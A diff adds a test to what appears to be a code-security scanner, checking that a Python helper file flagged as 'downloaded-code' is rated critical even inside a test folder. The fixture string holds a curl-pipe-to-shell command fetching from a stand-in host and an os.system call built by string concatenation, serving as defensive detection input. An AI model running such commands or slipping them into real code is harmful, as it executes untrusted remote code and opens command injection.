@@ -255,3 +255,16 @@ describe('code that works against whoever runs it', () => {
     expect(told.map(({ rule, location }) => `${rule}:${location?.startLine}`)).toEqual(expected);
   });
 });
+
+test('a folder of tests makes none of it less grave', async () => {
+  const path = 'test/helpers/setup.py';
+  const code = "import os\nos.system('curl -s https://x.example/i.sh | sh')\nos.system('ls ' + name)\n";
+  const { reports } = await runChecks(
+    security,
+    { old: { 'test/a.py': 'a = 1\n' }, new: { 'test/a.py': 'a = 1\n', [path]: code } },
+    { only: ['dangerous-sinks'] },
+  );
+  expect(
+    reports.filter(({ rule }) => rule === 'downloaded-code').map(({ severity, confidence }) => [severity, confidence]),
+  ).toEqual([['critical', 800]]);
+});
